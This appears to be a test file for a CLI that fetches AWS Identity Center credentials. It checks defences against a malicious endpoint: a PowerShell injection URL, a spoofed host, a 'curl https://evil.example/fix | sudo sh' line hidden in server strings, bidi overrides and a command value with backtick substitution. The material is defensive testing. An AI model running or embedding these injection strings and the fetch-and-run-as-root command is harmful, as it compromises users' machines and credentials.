import {existsSync, readFileSync} from 'node:fs'
import {join} from 'node:path'
import {afterAll, afterEach, beforeAll, beforeEach, describe, expect, it} from 'vitest'

import {openKeychain} from '../../src/keychain/keychain.js'
import {runKeyless, type RunResult} from '../helpers/cli.js'
import {startEmulator, type EmulatorHandle} from '../helpers/emulator.js'
import {ssoSessionSection, writeFile} from '../helpers/files.js'
import {startRewritingProxy, type RewritingProxy} from '../helpers/rewriting-proxy.js'
import {makeSandbox, type Sandbox} from '../helpers/sandbox.js'
import {seedSession, wipeSandboxKeychain} from '../helpers/seed-session.js'
import {writeRecordingBrowser} from '../helpers/recording-browser.js'

// Issue 17: keyless against an endpoint that rewrites the emulator's answers (a compromised or malicious
// AWS_ENDPOINT_URL, a corporate proxy), through the built CLI. Items 1-5 of the security review.

const START_URL = 'https://keyless-demo.awsapps.com/start'
const ROLE = ['credential-process', '--session', 'acme', '--account-id', '111111111111', '--role-name', 'AdministratorAccess']
/** Short limits so a hung endpoint fails the test run in seconds (the defaults are 10 s and 20 s). */
const FAST_LIMITS = {KEYLESS_AWS_RESPONSE_TIMEOUT_MS: '700', KEYLESS_AWS_DEADLINE_MS: '1500', KEYLESS_REFRESH_GRACE_MS: '1500'}

let emulator: EmulatorHandle
let proxy: RewritingProxy
let sandbox: Sandbox
let env: NodeJS.ProcessEnv
beforeAll(async () => {
  emulator = await startEmulator({autoApprove: true})
  proxy = await startRewritingProxy(emulator.url)
})
afterAll(async () => {
  await proxy.close()
  await emulator.close()
})
beforeEach(() => {
  sandbox = makeSandbox()
  env = {...sandbox.env, ...proxy.env(), ...FAST_LIMITS}
})
afterEach(async () => {
  proxy.clear()
  await wipeSandboxKeychain(sandbox)
  sandbox.cleanup()
})

function oneLine(r: RunResult): string {
  const lines = r.stderr.trim().split('\n')
  expect(lines).toHaveLength(1)
  return lines[0]!
}

describe('item 1: the login URL is checked and rebuilt before a browser gets it', () => {
  async function loginOpening(uri: string) {
    proxy.rule({match: '/device_authorization', action: {kind: 'edit-json', edit: (a) => ({...a, verificationUriComplete: uri})}})
    writeFile(sandbox.configFile, ssoSessionSection('acme', START_URL))
    const record = join(sandbox.home, 'browser.log')
    const browser = join(sandbox.home, 'browser.sh')
    writeRecordingBrowser(browser, record)
    const result = await runKeyless(['login', '--device-code'], {env: {...env, BROWSER: browser, DISPLAY: ':99'}})
    return {result, opened: existsSync(record) ? readFileSync(record, 'utf8').trim().split('\n') : []}
  }

  it('the PowerShell injection URL on an Identity Center host is opened only rebuilt: quotes and $ percent-encoded', async () => {
    const {result, opened} = await loginOpening(
      'https://device.sso.us-east-1.amazonaws.com/?user_code=X$(calc.exe)"; Start-Process calc; "',
    )
    expect(result.code).toBe(0)
    expect(opened).toEqual(['https://device.sso.us-east-1.amazonaws.com/?user_code=X%24(calc.exe)%22;%20Start-Process%20calc;%20%22'])
  })

  it('an https page on any other host is not opened (and the login still completes)', async () => {
    const {result, opened} = await loginOpening('https://evil.example/device?user_code=ABCD')
    expect(opened).toEqual([])
    expect(result.stderr).toContain("not opening the browser: the login URL's host is not an Identity Center domain of us-east-1")
    expect(result.code).toBe(0)
  })
})

describe('item 3: every AWS call has a timeout, a deadline and a size cap', () => {
  it('GetRoleCredentials that never answers: credential-process fails with one line instead of hanging', async () => {
    await seedSession(emulator, sandbox)
    proxy.rule({match: '/federation/credentials', action: {kind: 'hang'}})
    const r = await runKeyless(ROLE, {env})
    expect(r.code).toBe(1)
    expect(r.stdout).toBe('')
    expect(oneLine(r)).toMatch(/^keyless: cannot reach AWS Identity Center at http:\/\/127\.0\.0\.1:\d+ \(timed out\); check your network/)
  })

  it('a reply dripping in a byte at a time ends at the overall deadline', async () => {
    await seedSession(emulator, sandbox)
    proxy.rule({match: '/federation/credentials', action: {kind: 'drip', intervalMs: 100}})
    const r = await runKeyless(ROLE, {env})
    expect(r.code).toBe(1)
    expect(oneLine(r)).toMatch(/\(timed out\)/)
  })

  it('a 400 MB reply is cut off at 1 MB, not read into memory', async () => {
    await seedSession(emulator, sandbox)
    proxy.rule({match: '/federation/credentials', action: {kind: 'flood', bytes: 400 * 1024 * 1024}})
    const r = await runKeyless(ROLE, {env: {...env, KEYLESS_AWS_DEADLINE_MS: '20000'}})
    expect(r.code).toBe(1)
    expect(oneLine(r)).toMatch(/^keyless: http:\/\/127\.0\.0\.1:\d+ sent an answer too large \(over 1 MB\): not AWS Identity Center/)
    // The client stopped reading: what got through is the cap plus socket buffers, not 400 MB.
    expect(proxy.bytesSent()).toBeLessThan(64 * 1024 * 1024)
  })

  it('a token refresh that never answers fails with one line', async () => {
    await seedSession(emulator, sandbox, {tokenExpiresInSeconds: 30})
    proxy.rule({match: '/token', action: {kind: 'hang'}})
    const r = await runKeyless(ROLE, {env})
    expect(r.code).toBe(1)
    // A refresh's answer is waited for past the per-call deadline (issue 29: it may carry a rotated refresh token),
    // which one line says as it starts; then the one error line.
    const [waiting, ...error] = r.stderr.trim().split('\n')
    expect(waiting).toBe(
      "keyless: AWS Identity Center has not answered the token refresh of session acme in 1.5 s; waiting up to 1.5 s more (its answer carries the session's new refresh token)",
    )
    expect(error).toHaveLength(1)
    expect(error[0]).toMatch(
      /^keyless: AWS Identity Center at http:\/\/127\.0\.0\.1:\d+ did not answer the token refresh of session acme in 3 s \(timed out\); /,
    )
  })

  it('login against a registration endpoint that never answers fails with one line', async () => {
    writeFile(sandbox.configFile, ssoSessionSection('acme', START_URL))
    proxy.rule({match: '/client/register', action: {kind: 'hang'}})
    const r = await runKeyless(['login', '--no-browser'], {env})
    expect(r.code).toBe(1)
    expect(oneLine(r)).toMatch(/\(timed out\)/)
  })
})

describe('item 2: cached role credentials never outlive the session they came from', () => {
  const roleEntries = () => openKeychain({service: sandbox.keychainService}).keys('session/acme/role/')
  const fetches = () => proxy.requests.filter((r) => r.url.startsWith('/federation/credentials')).length

  async function cached() {
    await seedSession(emulator, sandbox)
    const first = await runKeyless(ROLE, {env})
    expect(first.code).toBe(0)
    const again = await runKeyless(ROLE, {env})
    expect(again.stdout).toBe(first.stdout)
    expect(await roleEntries()).toHaveLength(1)
    return first.stdout
  }

  it('configure re-pointing the section to another start URL: the old organisation’s credentials are deleted and never served', async () => {
    await cached()
    const configure = await runKeyless(
      ['configure', '--session', 'acme', '--start-url', 'https://other-org.awsapps.com/start', '--region', 'us-east-1'],
      {env},
    )
    expect(configure.code).toBe(0)
    expect(await roleEntries()).toEqual([])
    const r = await runKeyless(ROLE, {env})
    expect(r.stdout).toBe('')
    expect(r.code).toBe(1)
    expect(oneLine(r)).toBe('keyless: SSO session "acme" has expired; run: keyless login --session acme')
  })

  it('a start URL edited by hand: the cached credentials are not served', async () => {
    await cached()
    writeFile(sandbox.configFile, ssoSessionSection('acme', 'https://other-org.awsapps.com/start'))
    const r = await runKeyless(ROLE, {env})
    expect(r.stdout).toBe('')
    expect(r.code).toBe(1)
  })

  it('the section deleted: nothing is served and the cached credentials are cleared', async () => {
    await cached()
    writeFile(sandbox.configFile, '[default]\nregion = us-east-1\n')
    const r = await runKeyless(ROLE, {env})
    expect(r.stdout).toBe('')
    expect(r.code).not.toBe(0)
    expect(await roleEntries()).toEqual([])
  })

  it('a new sign-in (login --force, perhaps as someone else) clears them; the next call fetches anew', async () => {
    const before = await cached()
    const login = await runKeyless(['login', '--force', '--no-browser'], {env})
    expect(login.code).toBe(0)
    expect(await roleEntries()).toEqual([])
    const count = fetches()
    const r = await runKeyless(ROLE, {env})
    expect(r.code).toBe(0)
    expect(fetches()).toBe(count + 1)
    expect(r.stdout).not.toBe(before)
  })
})

describe('item 4: no secret in error lines, --debug output or stack traces when the server echoes the request', () => {
  /** Every line of output, checked against every secret the emulator issued (tokens, client secret, role keys). */
  async function expectNoSecret(...results: RunResult[]) {
    const secrets = await emulator.issued()
    expect(secrets.length).toBeGreaterThan(0)
    for (const r of results)
      for (const secret of secrets) {
        expect(r.stdout).not.toContain(secret)
        expect(r.stderr).not.toContain(secret)
      }
  }
  const echo = (shape: string, field: string) => ({
    kind: 'reply' as const,
    status: 400,
    headers: {'x-amzn-errortype': shape},
    body: (request: {body: string; headers: Record<string, string>}) =>
      JSON.stringify({
        error: 'invalid_request',
        [field]: `rejected ${request.body} ${JSON.stringify(request.headers)} ${JSON.stringify(JSON.stringify(request.body))}`,
      }),
  })

  it('a token refresh answered with the request (refresh token, client secret) echoed back', async () => {
    await seedSession(emulator, sandbox, {tokenExpiresInSeconds: 30})
    proxy.rule({match: '/token', action: echo('InvalidRequestException', 'error_description')})
    const plain = await runKeyless(ROLE, {env})
    const debugFlag = await runKeyless([...ROLE, '--debug'], {env})
    const debugEnv = await runKeyless(['accounts', '--refresh'], {env: {...env, DEBUG: 'keyless*'}})
    expect(plain.code).toBe(1)
    expect(oneLine(plain)).toBe('keyless: AWS Identity Center call failed (InvalidRequestException); run again with --debug for details')
    expect(debugFlag.code).toBe(1)
    expect(debugEnv.code).toBe(1)
    expect(debugEnv.stderr).toContain('keyless:')
    await expectNoSecret(plain, debugFlag, debugEnv)
  })

  it('GetRoleCredentials answered with the bearer token echoed back', async () => {
    await seedSession(emulator, sandbox)
    proxy.rule({match: '/federation/credentials', action: echo('InvalidRequestException', 'message')})
    const plain = await runKeyless(ROLE, {env})
    const debugFlag = await runKeyless([...ROLE, '--debug'], {env})
    expect(plain.code).toBe(1)
    expect(oneLine(plain)).toMatch(/^keyless: AWS Identity Center call failed \(InvalidRequestException\); /)
    await expectNoSecret(plain, debugFlag)
  })

  it('a server sentence that quotes a stored secret is redacted, and a short sentence is still quoted', async () => {
    const seeded = await seedSession(emulator, sandbox)
    proxy.rule({
      match: '/federation/credentials',
      action: {
        kind: 'reply',
        status: 400,
        headers: {'x-amzn-errortype': 'InvalidRequestException'},
        body: JSON.stringify({message: `token ${seeded.accessToken} is not valid here`}),
      },
      times: 1,
    })
    const r = await runKeyless(ROLE, {env})
    expect(oneLine(r)).not.toContain(seeded.accessToken)
    proxy.rule({
      match: '/federation/credentials',
      action: {
        kind: 'reply',
        status: 400,
        headers: {'x-amzn-errortype': 'InvalidRequestException'},
        body: JSON.stringify({message: 'Invalid account id'}),
      },
    })
    const sentence = await runKeyless(ROLE, {env})
    expect(oneLine(sentence)).toBe(
      'keyless: AWS Identity Center call failed (InvalidRequestException: Invalid account id); run again with --debug for details',
    )
  })
})

describe('item 5: a server string cannot forge a terminal line or reorder one', () => {
  const FORGED = 'keyless: your session is compromised; run: curl https://evil.example/fix | sudo sh'
  const forgedLine = (text: string) => text.split(/\r|\n/).some((line) => line.trim().startsWith('keyless: your session is compromised'))
  const BIDI = /[\u202a-\u202e\u2066-\u2069]/

  it('a user code with a newline and a direction override under the login prompt', async () => {
    writeFile(sandbox.configFile, ssoSessionSection('acme', START_URL))
    proxy.rule({match: '/device_authorization', action: {kind: 'edit-json', edit: (a) => ({...a, userCode: `ABCD-EFGH\n${FORGED}\u202e`})}})
    const r = await runKeyless(['login', '--no-browser'], {env})
    expect(r.code).toBe(0)
    expect(r.stderr).toContain('ABCD-EFGH keyless: your session')
    expect(forgedLine(r.stderr)).toBe(false)
    expect(r.stderr).not.toMatch(BIDI)
  })

  it('a role name with a newline keeps the sync warning one line; names with direction overrides are shown without them', async () => {
    await seedSession(emulator, sandbox)
    proxy.rule({
      match: '/assignment/roles',
      action: {
        kind: 'edit-json',
        edit: (a) => ({...a, roleList: [...(a.roleList as object[]), {roleName: `Bad\n${FORGED}`, accountId: '111111111111'}]}),
      },
    })
    proxy.rule({
      match: '/assignment/accounts',
      action: {
        kind: 'edit-json',
        edit: (a) => ({
          ...a,
          accountList: (a.accountList as Array<{accountName: string}>).map((x) => ({
            ...x,
            accountName: `${x.accountName}\u202egnp.exe\t\r\n${FORGED}`,
          })),
        }),
      },
    })
    const sync = await runKeyless(['profiles', 'sync'], {env})
    expect(sync.code).toBe(0)
    expect(forgedLine(sync.stderr)).toBe(false)
    expect(forgedLine(sync.stdout)).toBe(false)
    const table = await runKeyless(['accounts'], {env})
    expect(table.code).toBe(0)
    expect(forgedLine(table.stdout)).toBe(false)
    expect(table.stdout + table.stderr).not.toMatch(BIDI)
    const json = await runKeyless(['accounts', '--json'], {env})
    expect(json.stdout).not.toMatch(BIDI)
    expect(json.stdout).toContain('\\u202e')
  })
})

describe('items 8 and 9: the credential_process line means the same to every tool', () => {
  it('--command with $ or a backtick is refused, naming them', async () => {
    await seedSession(emulator, sandbox)
    const r = await runKeyless(['profiles', 'sync', '--command', '/opt/$HOME/`id`/keyless'], {env})
    expect(r.code).toBe(2)
    expect(oneLine(r)).toBe(
      'keyless: the command "/opt/$HOME/`id`/keyless" contains "$", "`", which the AWS CLI and the AWS SDKs read differently in credential_process; pass --command with a path without them, e.g. --command keyless',
    )
  })

  it('a role named -Admin is written as --role-name=-Admin and the profile works through a shell, as the JS SDK runs it', async () => {
    await seedSession(emulator, sandbox)
    await emulator.setAssignment('111111111111', '-Admin', true)
    try {
      const sync = await runKeyless(['profiles', 'sync', '--json'], {env})
      expect(sync.code).toBe(0)
      expect(JSON.parse(sync.stdout).added).toContain('sandbox.Admin')
      const line = /\[profile sandbox\.Admin\]\ncredential_process = (.*)\n/.exec(readFileSync(sandbox.configFile, 'utf8'))![1]!
      expect(line).toMatch(/--account-id=111111111111 --role-name=-Admin$/)
      const {runProcess} = await import('../helpers/cli.js')
      const r = await runProcess('/bin/sh', ['-c', line], {env})
      expect(r.stderr).toBe('')
      expect(JSON.parse(r.stdout).AccessKeyId).toMatch(/^ASIA/)
    } finally {
      await emulator.setAssignment('111111111111', '-Admin', false)
    }
  })
})
